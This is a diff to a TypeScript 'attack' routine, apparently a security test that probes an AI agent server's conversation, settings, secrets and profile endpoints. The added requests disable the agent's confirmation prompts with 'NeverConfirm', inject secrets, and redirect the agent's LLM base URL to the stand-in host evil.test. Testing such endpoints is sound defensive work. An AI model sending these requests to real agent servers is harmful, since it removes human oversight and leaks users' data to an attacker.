@@ -27,6 +27,7 @@ export async function attack({ url, conversation, secret }: Target): Promise<str
     '/api/settings',
     '/api/settings/secrets',
     `/api/settings/secrets/${secret}`,
+    '/api/profiles',
     '/metrics',
   ]
   const message = { role: 'user', content: [{ type: 'text', text: 'attacked' }], run: true }
@@ -36,6 +37,13 @@ export async function attack({ url, conversation, secret }: Target): Promise<str
     ['POST', `/api/conversations/${conversation}/events`, message],
     ['POST', `/api/conversations/${conversation}/run`],
     ['POST', `/api/conversations/${conversation}/events/respond_to_confirmation`, { accept: true }],
+    ['POST', `/api/conversations/${conversation}/confirmation_policy`, { policy: { kind: 'NeverConfirm' } }],
+    ['POST', `/api/conversations/${conversation}/secrets`, { secrets: { ATTACKED: 'attacked' } }],
+    ['POST', `/api/conversations/${conversation}/switch_llm`, { llm: { base_url: 'http://evil.test' } }],
+    ['POST', `/api/conversations/${conversation}/ask_agent`, { question: 'attacked' }],
+    ['POST', `/api/conversations/${conversation}/fork`],
+    ['POST', `/api/conversations/${conversation}/interrupt`],
+    ['POST', '/api/profiles/attacked', { llm: { base_url: 'http://evil.test' } }],
     ['POST', '/api/settings', { language: 'attacked', llm_base_url: 'http://evil.test' }],
     ['PATCH', '/api/settings', { agent_settings_diff: { llm: { base_url: 'http://evil.test' } } }],
     ['PUT', '/api/settings/secrets', { name: 'ATTACKED', value: 'attacked' }],
